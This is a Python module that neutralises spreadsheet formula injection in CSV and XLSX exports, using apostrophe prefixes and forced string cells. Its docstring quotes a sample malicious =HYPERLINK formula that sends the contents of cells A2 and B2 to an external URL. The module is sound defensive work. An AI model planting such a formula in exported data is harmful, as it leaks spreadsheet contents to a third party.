"""Spreadsheet exports that never carry a live formula (CSV and XLSX, every app).

A value typed by a user (a candidate's first name ``=HYPERLINK("https://…?d="&A2&B2,"Voir")``)
must reach a spreadsheet as text. CSV: a cell starting with ``=``, ``+``, ``-``, ``@``, a tab or
a carriage return is prefixed with an apostrophe, which spreadsheet software reads as « text »
and does not display (OWASP « CSV injection »). XLSX: every string is written as a string cell —
openpyxl would otherwise store a value starting with ``=`` as a formula — and the control
characters XML cannot carry are dropped (openpyxl would refuse the whole workbook).
"""

import csv
import re

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def csv_cell(value):
    """``value`` as a CSV cell: a formula-like string gets a leading apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


class SafeCsvWriter:
    """``csv.writer`` whose every cell goes through ``csv_cell``."""

    def __init__(self, out, **kwargs):
        self._writer = csv.writer(out, **kwargs)

    def writerow(self, row):
        return self._writer.writerow([csv_cell(v) for v in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def csv_writer(out, **kwargs) -> SafeCsvWriter:
    return SafeCsvWriter(out, **kwargs)


def xlsx_row(sheet, values) -> list:
    """Cells for ``sheet.append`` (write-only sheet): strings forced to text, never a formula."""
    from openpyxl.cell import WriteOnlyCell

    row = []
    for value in values:
        if isinstance(value, str):
            cell = WriteOnlyCell(sheet, value=_XML_ILLEGAL.sub("", value))
            cell.data_type = "s"
            row.append(cell)
        else:
            row.append(value)
    return row


def xlsx_append(sheet, values) -> None:
    sheet.append(xlsx_row(sheet, values))
